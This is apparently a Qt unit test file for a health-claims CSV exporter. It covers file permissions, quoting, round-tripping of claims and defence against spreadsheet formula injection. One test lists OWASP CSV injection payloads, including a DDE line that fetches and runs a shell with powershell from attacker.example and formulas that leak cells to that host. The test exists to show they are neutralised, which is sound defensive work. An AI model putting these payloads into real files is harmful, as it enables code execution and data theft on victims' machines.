#include "csvreader.h"
#include "export/atomicfile.h"
#include "export/claimscsv.h"
#include "export/claimset.h"
#include "export/csvwriter.h"
#include "fhir/parser.h"
#include "filemodes.h"
#include "testdata.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include <sys/stat.h>

using namespace Qt::StringLiterals;

using namespace bb::filemodes;
using namespace bb;

class TestExportCsv : public QObject
{
    Q_OBJECT

    static QList<fhir::Claim> fixtureClaims()
    {
        QList<fhir::Claim> all;
        for (const QString &page : testdata::sandboxPageFiles()) {
            fhir::Document doc = fhir::parseDocument(testdata::readOrFail(page));
            exporting::mergeClaims(all, std::move(doc.claims));
        }
        exporting::sortNewestFirst(all);
        return all;
    }

private Q_SLOTS:
    void initTestCase() { BB_REQUIRE_FIXTURES(testdata::sandboxPageFiles()); }

    // The writer of every CSV and JSON export, in the app and on the command line.
    void exportFilesAreOwnerOnly()
    {
        ::umask(022);
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString fresh = dir.filePath(u"new.csv"_s);
        QVERIFY(exporting::writeFileAtomically(fresh, "a,b\n"));
        QCOMPARE(exportMode(fresh), kOwnerOnly);

        const QString replaced = dir.filePath(u"replaced.csv"_s);
        QVERIFY(makeWorldReadable(replaced));
        QVERIFY(exporting::writeFileAtomically(replaced, "a,b\n"));
        QCOMPARE(exportMode(replaced), kOwnerOnly);
        QFile f(replaced);
        QVERIFY(f.open(QIODevice::ReadOnly));
        QCOMPARE(f.readAll(), QByteArray("a,b\n"));
    }

    void quoting()
    {
        exporting::CsvWriter csv;
        csv.addHeader({u"a"_s, u"b"_s});
        csv.text(u"plain"_s);
        csv.text(u"comma, \"quote\"\nnewline"_s);
        csv.endRow();
        QCOMPARE(csv.result(), u"a,b\r\nplain,\"comma, \"\"quote\"\"\nnewline\"\r\n"_s);
    }

    void formulaInjection_data()
    {
        QTest::addColumn<QString>("input");
        QTest::addColumn<QString>("expected");
        QTest::newRow("equals") << u"=HYPERLINK(\"http://x\")"_s << u"'=HYPERLINK(\"http://x\")"_s;
        QTest::newRow("plus") << u"+1+1"_s << u"'+1+1"_s;
        QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
        QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
        QTest::newRow("tab") << u"\t=1"_s << u"'\t'=1"_s;
        QTest::newRow("cr") << u"\r=1"_s << u"'\r'=1"_s;
        QTest::newRow("after semicolon")
            << u"x;=HYPERLINK(\"http://x\")"_s << u"x;'=HYPERLINK(\"http://x\")"_s;
        QTest::newRow("after comma") << u"Doe, +1"_s << u"Doe,' +1"_s;
        QTest::newRow("after tab") << u"x\t@SUM(A1)"_s << u"x\t'@SUM(A1)"_s;
        QTest::newRow("list item") << u"49392;-2+3;4940"_s << u"49392;'-2+3;4940"_s;
        QTest::newRow("quoted") << u"\"=1+1\""_s << u"'\"=1+1\""_s;
        QTest::newRow("full-width") << u"\uFF1D1+1"_s << u"'\uFF1D1+1"_s;
        QTest::newRow("harmless") << u"DR. SMITH"_s << u"DR. SMITH"_s;
        QTest::newRow("inner equals") << u"a=b"_s << u"a=b"_s;
    }

    void formulaInjection()
    {
        QFETCH(QString, input);
        QFETCH(QString, expected);
        QCOMPARE(exporting::CsvWriter::neutralise(input), expected);
    }

    // OWASP's CSV injection payloads, alone, after a ';' or ',' or tab inside a cell, and as an
    // item of a ';'-joined list: whichever separator a spreadsheet splits the file on (',' as
    // written, ';' as Spanish locales do, or tab), no piece of any cell may start a formula.
    void formulaInjectionUnderEachSeparator_data()
    {
        QTest::addColumn<QChar>("separator");
        QTest::newRow("comma") << QChar(u',');
        QTest::newRow("semicolon") << QChar(u';');
        QTest::newRow("tab") << QChar(u'\t');
    }

    void formulaInjectionUnderEachSeparator()
    {
        QFETCH(QChar, separator);
        const QStringList payloads = {
            u"=cmd|' /C calc'!A0"_s,
            u"=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0"_s,
            u"=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: click here\")"_s,
            u"@SUM(1+9)*cmd|' /C calc'!A0"_s,
            u"+SUM(1+9)*cmd|' /C calc'!A0"_s,
            u"-2+3+cmd|' /C calc'!A0"_s,
            u"=10+20+cmd|' /C calc'!A0"_s,
            u"=DDE(\"cmd\";\"/C calc\";\"!A0\")"_s,
            u"=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", CONCATENATE(A2:E2)), \"//a\")"_s,
            u"\t=1+1"_s,
            u"\r=1+1"_s,
            u" =1+1"_s,
            u"\"=1+1\""_s,
            u"\uFF1D1+1"_s,
        };
        exporting::CsvWriter csv;
        for (const QString &p : payloads) {
            csv.text(p);
            csv.text(u"Smith"_s + separator + p);
            csv.text(u"49392;"_s + p + u";4940"_s);
            csv.endRow();
        }
        // The strictest reading: split on the separator and on line breaks, quotes ignored.
        const QString out = csv.result();
        QString piece;
        const auto check = [&piece] {
            qsizetype i = 0;
            while (i < piece.size() && (piece.at(i) == u' ' || piece.at(i) == u'"'))
                ++i;
            if (i < piece.size()) {
                const char16_t c = piece.at(i).unicode();
                const bool formula = c == u'=' || c == u'+' || c == u'-' || c == u'@' || c == u'\t'
                    || c == 0xFF1D || c == 0xFF0B || c == 0xFF0D || c == 0xFF20;
                if (formula)
                    qWarning() << "live formula:" << piece;
                QVERIFY(!formula);
            }
            piece.clear();
        };
        for (QChar c : out) {
            if (c == separator || c == u'\r' || c == u'\n') {
                check();
                if (QTest::currentTestFailed())
                    return;
            } else {
                piece += c;
            }
        }
        check();
    }

    void negativeAmountsStayNumbers()
    {
        exporting::CsvWriter csv;
        csv.number(fhir::Money::fromCents(-1250).toPlainString());
        csv.text(u"-1250"_s);
        csv.endRow();
        QCOMPARE(csv.result(), u"-12.50,'-1250\r\n"_s);
    }

    // Real v2 claims can carry a diagnosis entry with no code: it must not become an empty
    // item in the list (";49392;4940…").
    void diagnosisWithoutCodeIsLeftOut()
    {
        fhir::Claim claim;
        claim.id = u"carrier--1"_s;
        claim.type = fhir::ClaimType::Carrier;
        fhir::Diagnosis none;
        none.sequence = 1;
        none.display = u"no code given"_s;
        fhir::Diagnosis asthma;
        asthma.sequence = 2;
        asthma.code = u"49392"_s;
        fhir::Diagnosis other;
        other.sequence = 3;
        other.code = u"4940"_s;
        claim.diagnoses = {none, asthma, other};
        bool ok = false;
        const QList<QStringList> rows = parseCsv(exporting::claimsCsv({claim}), &ok);
        QVERIFY(ok);
        QCOMPARE(rows.size(), 2);
        const int codes = int(rows.first().indexOf(u"diagnosis_codes"_s));
        QVERIFY(codes >= 0);
        QCOMPARE(rows.at(1).at(codes), u"49392;4940"_s);
    }

    void claimsRoundTrip()
    {
        const QList<fhir::Claim> claims = fixtureClaims();
        QCOMPARE(claims.size(), 52);
        bool ok = false;
        const QList<QStringList> rows = parseCsv(exporting::claimsCsv(claims), &ok);
        QVERIFY(ok);
        QCOMPARE(rows.size(), 53);
        QCOMPARE(rows.first(), exporting::claimsCsvColumns());
        const QStringList cols = rows.first();
        const int id = int(cols.indexOf(u"claim_id"_s));
        const int start = int(cols.indexOf(u"service_start"_s));
        const int end = int(cols.indexOf(u"service_end"_s));
        const int pay = int(cols.indexOf(u"payment_amount"_s));
        const int type = int(cols.indexOf(u"claim_type"_s));
        QDate previous = QDate(9999, 1, 1);
        for (int i = 1; i < rows.size(); ++i) {
            const QStringList &r = rows.at(i);
            QCOMPARE(r.size(), cols.size());
            const fhir::Claim &c = claims.at(i - 1);
            QCOMPARE(r.at(id), c.id);
            QCOMPARE(r.at(type), fhir::claimTypeKey(c.type));
            QCOMPARE(QDate::fromString(r.at(start), Qt::ISODate), c.billablePeriod.start);
            QCOMPARE(QDate::fromString(r.at(end), Qt::ISODate), c.billablePeriod.end);
            // Amounts read back to the exact cent.
            const QByteArray amount = r.at(pay).toLatin1();
            QCOMPARE(fhir::Money::parse({amount.constData(), size_t(amount.size())})->cents(),
                c.payment->cents());
            // Newest first.
            const QDate d = QDate::fromString(r.at(end), Qt::ISODate);
            QVERIFY(d <= previous);
            previous = d;
        }
    }

    void claimLinesRoundTrip()
    {
        const QList<fhir::Claim> claims = fixtureClaims();
        int lines = 0;
        for (const fhir::Claim &c : claims)
            lines += int(c.items.size());
        bool ok = false;
        const QList<QStringList> rows = parseCsv(exporting::claimLinesCsv(claims), &ok);
        QVERIFY(ok);
        QCOMPARE(rows.size(), lines + 1);
        QCOMPARE(rows.first(), exporting::claimLinesCsvColumns());
    }

    // --labels: the screen's words in the header and the type column; the rest unchanged.
    void labelsAsShown()
    {
        const QList<fhir::Claim> claims = fixtureClaims();
        bool ok = false;
        const QList<QStringList> keys = parseCsv(exporting::claimsCsv(claims), &ok);
        QVERIFY(ok);
        const QList<QStringList> rows =
            parseCsv(exporting::claimsCsv(claims, exporting::CsvHeaders::Labels), &ok);
        QVERIFY(ok);
        QCOMPARE(rows.size(), keys.size());
        QCOMPARE(rows.first(), exporting::claimsCsvLabels());
        QCOMPARE(rows.first().size(), exporting::claimsCsvColumns().size());
        QVERIFY(rows.first().contains(u"Amount billed"_s));
        const int type = int(keys.first().indexOf(u"claim_type"_s));
        for (int i = 1; i < rows.size(); ++i) {
            QCOMPARE(rows.at(i).at(type), fhir::claimTypeDisplayName(claims.at(i - 1).type));
            for (int c = 0; c < rows.at(i).size(); ++c) {
                if (c != type)
                    QCOMPARE(rows.at(i).at(c), keys.at(i).at(c));
            }
        }
        const QList<QStringList> lines =
            parseCsv(exporting::claimLinesCsv(claims, exporting::CsvHeaders::Labels), &ok);
        QVERIFY(ok);
        QCOMPARE(lines.first(), exporting::claimLinesCsvLabels());
        QCOMPARE(lines.first().size(), exporting::claimLinesCsvColumns().size());
    }

    void mergeKeepsOnePerIdAndNewest()
    {
        fhir::Claim a;
        a.id = u"carrier--1"_s;
        a.lastUpdated = QDateTime(QDate(2020, 1, 1), QTime(0, 0), Qt::UTC);
        a.status = u"old"_s;
        fhir::Claim b = a;
        b.lastUpdated = a.lastUpdated.addDays(1);
        b.status = u"new"_s;
        fhir::Claim c;
        c.id = u"pde--2"_s;
        QList<fhir::Claim> all {a};
        exporting::mergeClaims(all, QList<fhir::Claim> {b, c});
        QCOMPARE(all.size(), 2);
        QCOMPARE(all.first().status, u"new"_s);
        exporting::mergeClaims(all, QList<fhir::Claim> {a});
        QCOMPARE(all.first().status, u"new"_s);
    }
};

QTEST_APPLESS_MAIN(TestExportCsv)
#include "tst_export_csv.moc"
